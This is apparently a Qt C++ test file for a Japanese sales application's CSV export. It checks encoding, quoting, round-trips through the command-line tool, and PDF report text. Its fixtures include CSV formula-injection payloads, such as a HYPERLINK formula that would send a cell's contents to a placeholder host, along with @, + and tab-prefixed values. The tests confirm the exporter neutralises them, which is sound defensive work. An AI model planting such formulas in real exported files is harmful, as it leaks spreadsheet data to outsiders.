#include <QDir>
#include <QFile>
#include <QProcess>
#include <QtTest>

#include "app/demo_data.h"
#include "app/table_csv.h"
#include "customers/csv_import.h"
#include "test_folder.h"

namespace {

int run_cli(const QString& folder, const QStringList& arguments, QString* output = nullptr) {
    QProcess p;
    p.setWorkingDirectory(folder);
    p.start(qEnvironmentVariable("SALES_CLI"), arguments);
    p.waitForFinished(120000);
    if (output)
        *output = QString::fromUtf8(p.readAllStandardOutput() + p.readAllStandardError());
    return p.exitCode();
}

const QString kColumns = QStringLiteral(
    "顧客名,顧客名かな,都道府県,郵便番号1,郵便番号2,住所,TEL,FAX,携帯,Email,担当者,担当者かな,備考");

}  // namespace

class TestExport : public QObject {
    Q_OBJECT
private slots:
    void csv_bytes_data();
    void csv_bytes();
    void round_trip_cells_data();
    void round_trip_cells();
    void customers_round_trip_data();
    void customers_round_trip();
    void demo_register_round_trip();
    void export_heading_is_recognised_data();
    void export_heading_is_recognised();
    void report_pdf_holds_grid();
};

// The exact bytes Excel gets: headings first, quotes only where needed, CRLF, BOM or Shift_JIS.
void TestExport::csv_bytes_data() {
    QTest::addColumn<QVector<QStringList>>("rows");
    QTest::addColumn<bool>("shift_jis");
    QTest::addColumn<QByteArray>("bytes");
    const QStringList head{"顧客名", "金額"};
    QTest::newRow("comma, quote, line break, amount")
        << QVector<QStringList>{head, {"山田, 商事", "1234567"}, {"\"大\"商店", "-5"}, {"二行\n目", "0.5"}}
        << false
        << QByteArray(
               "\xEF\xBB\xBF"
               "顧客名,金額\r\n\"山田, 商事\",1234567\r\n\"\"\"大\"\"商店\",-5\r\n\"二行\n目\",0.5\r\n");
    QTest::newRow("blanks kept, empty cells") << QVector<QStringList>{head, {" 前後 ", ""}} << false
                                              << QByteArray(
                                                     "\xEF\xBB\xBF"
                                                     "顧客名,金額\r\n\" 前後 \",\r\n");
    QTest::newRow("Shift_JIS with Windows-31J characters")
        << QVector<QStringList>{{"㈱髙橋①", "～"}} << true
        << QByteArray("\x87\x8A\xFB\xFC\x8B\xB4\x87\x40,\x81\x60\r\n");
    QTest::newRow("Shift_JIS cannot hold it") << QVector<QStringList>{{"絵文字😀"}} << true << QByteArray();
    // Texts from incoming mail that Excel would run are written as text; numbers stay numbers.
    QTest::newRow("formulas kept as text")
        << QVector<QStringList>{{"=HYPERLINK(\"http://x.example/?\"&B2,\"詳細\")", "-500"},
                                {"+81-3-1234-5678", "@SUM(A1)"},
                                {"\tタブ", "\r改行"},
                                {"-", "-1,234.5"},
                                {"+5", "'引用"}}
        << false
        << QByteArray(
               "\xEF\xBB\xBF"
               "\"'=HYPERLINK(\"\"http://x.example/?\"\"&B2,\"\"詳細\"\")\",-500\r\n"
               "'+81-3-1234-5678,'@SUM(A1)\r\n"
               "'\tタブ,\"'\r改行\"\r\n"
               "'-,\"-1,234.5\"\r\n"
               "+5,'引用\r\n");
}

// The protection of files read back by the import: exactly one apostrophe more where Excel would see
// a formula or an apostrophe, and exactly that one taken away again.
void TestExport::round_trip_cells_data() {
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("written");
    QTest::newRow("formula") << "=1+1"
                             << "'=1+1";
    QTest::newRow("at sign") << "@部長"
                             << "'@部長";
    QTest::newRow("phone with plus") << "+81-3-1234"
                                     << "'+81-3-1234";
    QTest::newRow("negative number") << "-500"
                                     << "-500";
    QTest::newRow("apostrophe of its own") << "'=abc"
                                           << "''=abc";
    QTest::newRow("apostrophe alone") << "'"
                                      << "''";
    QTest::newRow("plain text") << "山田商事"
                                << "山田商事";
    QTest::newRow("empty") << ""
                           << "";
}

void TestExport::round_trip_cells() {
    QFETCH(QString, value);
    QFETCH(QString, written);
    QCOMPARE(round_trip_cell(value), written);
    QCOMPARE(read_back_cell(written), value);
    QCOMPARE(excel_text_cell(written), written);  // the file's own protection adds nothing more
}

void TestExport::csv_bytes() {
    QFETCH(QVector<QStringList>, rows);
    QFETCH(bool, shift_jis);
    QFETCH(QByteArray, bytes);
    QString error;
    QCOMPARE(table_csv(rows, shift_jis ? CsvEncoding::ShiftJis : CsvEncoding::Utf8Bom, &error), bytes);
    QCOMPARE(error.isEmpty(), !bytes.isEmpty());
    TestFolder folder;
    const QString path = QDir(folder.path()).filePath(QStringLiteral("x.csv"));
    QFile old(path);
    QVERIFY(old.open(QIODevice::WriteOnly) && old.write("old") == 3);
    old.close();
    QString message;
    QCOMPARE(save_table_csv(path, rows, shift_jis ? CsvEncoding::ShiftJis : CsvEncoding::Utf8Bom, message),
             !bytes.isEmpty());
    QVERIFY(old.open(QIODevice::ReadOnly));
    // A refused table leaves the file that was there.
    QCOMPARE(old.readAll(), bytes.isEmpty() ? QByteArray("old") : bytes);
}

// sales-cli export customers writes what sales-cli import reads back into an empty folder.
void TestExport::customers_round_trip_data() {
    QTest::addColumn<QStringList>("options");
    QTest::newRow("UTF-8") << QStringList();
    QTest::newRow("Shift_JIS") << QStringList{QStringLiteral("--shift-jis")};
}

void TestExport::customers_round_trip() {
    QFETCH(QStringList, options);
    const QString select = QStringLiteral("select %1 from 顧客 order by 顧客ID").arg(kColumns);
    TestFolder source;
    source.exec(QStringLiteral("insert into 顧客 (%1) values ('㈱髙橋①, "
                               "\"本店\"','たかはし','東京都','100','0001',' 千代田区 ～ ',"
                               "'03-1','','','a@b.jp','','','一行目\r\n二行目'),('山田商事','やまだ','','',''"
                               ",'','','','','y@x.jp','山田',"
                               "'やまだ','')")
                    .arg(kColumns));
    // Made from mail: no reading, no Email, texts that Excel would run.
    source.exec(
        QStringLiteral("insert into 顧客 (%1) values ('=HYPERLINK(\"http://x.example/\",\"詳細\")','',"
                       "'','','','@本社','+81-3-1234-5678','-500','','','''=引用','','-')")
            .arg(kColumns));
    source.db().close();
    QString output;
    QCOMPARE(
        run_cli(source.path(),
                QStringList{QStringLiteral("export"), QStringLiteral("customers"), QStringLiteral("c.csv")} +
                    options,
                &output),
        0);
    TestFolder target;
    target.db().close();
    QCOMPARE(run_cli(target.path(),
                     {QStringLiteral("import"), QStringLiteral("customers"),
                      QDir(source.path()).filePath(QStringLiteral("c.csv"))},
                     &output),
             0);
    source.reload();
    target.reload();
    const ResultTable before = source.rows(select, 13);
    const ResultTable after = target.rows(select, 13);
    QCOMPARE(after.row_count(), 3);
    for (int r = 1; r <= 3; ++r)
        for (int c = 0; c < 13; ++c)
            QCOMPARE(after(c, r), before(c, r));
    // Opened in Excel, no value of the file is a formula.
    QFile file(QDir(source.path()).filePath(QStringLiteral("c.csv")));
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QByteArray bytes = file.readAll();
    QVERIFY(!bytes.contains("\"=") && !bytes.contains("\"+") && !bytes.contains("\"@"));
}

// The issue's own case: the demo register (a third of its customers without Email) exported and
// imported into an empty folder gives every customer and goods row back.
void TestExport::demo_register_round_trip() {
    TestFolder source;
    DemoOptions options;
    options.as_of = QDate(2026, 12, 8);
    generate_demo_data(source.db(), options);
    QVERIFY(source.value("select count(*) from 顧客 where Email is null or Email=''").toInt() > 0);
    source.db().close();
    TestFolder target;
    target.db().close();
    QString output;
    for (const QString& what : {QStringLiteral("customers"), QStringLiteral("goods")}) {
        const QString file = what + QStringLiteral(".csv");
        QCOMPARE(run_cli(source.path(), {QStringLiteral("export"), what, file}, &output), 0);
        QVERIFY2(!output.contains(QStringLiteral("注意")), qPrintable(output));
        QCOMPARE(run_cli(target.path(), {QStringLiteral("import"), what, QDir(source.path()).filePath(file)},
                         &output),
                 0);
    }
    source.reload();
    target.reload();
    // Empty texts come back empty (NULL and '' alike); numbers exactly, NULL as NULL.
    QStringList texts;
    for (const QString& c : kColumns.split(QLatin1Char(',')))
        texts << QStringLiteral("coalesce(%1,'')").arg(c);
    const QStringList selects{
        QStringLiteral("select %1 from 顧客 order by 顧客ID").arg(texts.join(QLatin1Char(','))),
        QStringLiteral(
            "select 分類コード,coalesce(分類,''),coalesce(商品名,''),単価 from 商品 order by 商品ID")};
    const int widths[] = {13, 4};
    for (int i = 0; i < 2; ++i) {
        const ResultTable before = source.rows(selects.at(i), widths[i]);
        const ResultTable after = target.rows(selects.at(i), widths[i]);
        QVERIFY(before.row_count() > 0);
        QCOMPARE(after.row_count(), before.row_count());
        for (int r = 1; r <= before.row_count(); ++r)
            for (int c = 0; c < widths[i]; ++c)
                QCOMPARE(after(c, r), before(c, r));
    }
}

// The heading row marks the export's own files, which are taken back whole; other files keep every
// check of the import.
void TestExport::export_heading_is_recognised_data() {
    QTest::addColumn<bool>("goods");
    QTest::addColumn<QByteArray>("file");
    QTest::addColumn<QString>("problem");  // empty: imported
    QTest::addColumn<QString>("stored");   // the first record's columns as stored, "|" between
    const QByteArray customer_heading =
        "\"顧客名\",\"顧客名かな\",\"都道府県\",\"郵便番号1\",\"郵便番号2\",\"住所\",\"TEL\",\"FAX\","
        "\"携帯\","
        "\"Email\",\"担当者\",\"担当者かな\",\"備考\"\r\n";
    const QByteArray customer =
        "\"\",\"\",\"\",\"\",\"\",\"'=1+1\",\"\",\"\",\"\",\"\",\"\",\"\",\"''x\"\r\n";
    QTest::newRow("exported customer without name, reading or Email")
        << false << customer_heading + customer << ""
        << "||'x|=1+1";
    QTest::newRow("the same record without the heading") << false << customer << "顧客名エラー"
                                                         << "";
    QTest::newRow("another heading is a record")
        << false << QByteArray(customer_heading).replace("Email", "メール") + customer << "かなエラー"
        << "";
    const QByteArray goods_heading = "\"分類コード\",\"分類\",\"商品名\",\"単価\"\r\n";
    QTest::newRow("exported goods without price")
        << true << goods_heading + "\"3\",\"家具\",\"'-試作\",\"\"\r\n"
        << ""
        << "3|家具|-試作|-";
    QTest::newRow("exported goods with a price that is no number")
        << true << goods_heading + "\"3\",\"家具\",\"椅子\",\"高い\"\r\n"
        << "分類コードまたが単価が不正です"
        << "";
    QTest::newRow("goods without the heading")
        << true << QByteArray("3,家具,椅子,\r\n") << "分類コードまたが単価が不正です"
        << "";
}

void TestExport::export_heading_is_recognised() {
    QFETCH(bool, goods);
    QFETCH(QByteArray, file);
    QFETCH(QString, problem);
    QFETCH(QString, stored);
    TestFolder folder;
    const QString path = QDir(folder.path()).filePath(QStringLiteral("in.csv"));
    QFile out(path);
    QVERIFY(out.open(QIODevice::WriteOnly) && out.write(file) == file.size());
    out.close();
    const CsvResult result =
        goods ? import_goods_csv(folder.db(), path) : import_customer_csv(folder.db(), path);
    QVERIFY2(result.ok == problem.isEmpty() && result.message.contains(problem), qPrintable(result.message));
    if (!result.ok) {
        QCOMPARE(folder.count(goods ? QStringLiteral("商品") : QStringLiteral("顧客")), 0);
        return;
    }
    QCOMPARE(result.count, 1);
    const QString select = goods ? QStringLiteral("select 分類コード,分類,商品名,単価 from 商品")
                                 : QStringLiteral("select 顧客名,Email,備考,住所 from 顧客");
    const ResultTable rows = folder.rows(select, 4);
    QCOMPARE(rows.row_count(), 1);
    QCOMPARE((QStringList{rows(0, 1), rows(1, 1), rows(2, 1), rows(3, 1)}).join(QLatin1Char('|')), stored);
}

// A scheduled report as PDF: the text of the page holds the grid's headings and the first customer.
void TestExport::report_pdf_holds_grid() {
    TestFolder folder;
    const QString id = folder.add_customer(QStringLiteral("株式会社みどり"), QStringLiteral("みどり"));
    folder.exec(
        QStringLiteral("insert into 受注 (顧客ID,受注日,受注金額,社員) values (%1,'2026/11/20',50000,'')")
            .arg(id));
    folder.db().close();
    QString output;
    QCOMPARE(run_cli(folder.path(),
                     {QStringLiteral("report"), QStringLiteral("rfm"), QStringLiteral("--format"),
                      QStringLiteral("pdf"), QStringLiteral("--output"), QStringLiteral("r.pdf")},
                     &output),
             0);
    QProcess text;
    text.start(QStringLiteral("pdftotext"),
               {QStringLiteral("-layout"), QDir(folder.path()).filePath(QStringLiteral("r.pdf")),
                QStringLiteral("-")});
    QVERIFY(text.waitForFinished(60000));
    const QString page = QString::fromUtf8(text.readAllStandardOutput());
    QVERIFY2(page.contains(QRegularExpression(QStringLiteral("顧客ID\\s+顧客名\\s+総合\\s+R\\s+F\\s+M"))),
             qPrintable(page));
    QVERIFY2(page.contains(QStringLiteral("株式会社みどり")), qPrintable(page));
    QVERIFY2(page.contains(QRegularExpression(QStringLiteral("1\\s*/\\s*1"))), qPrintable(page));
}

QTEST_GUILESS_MAIN(TestExport)
#include "test_export.moc"
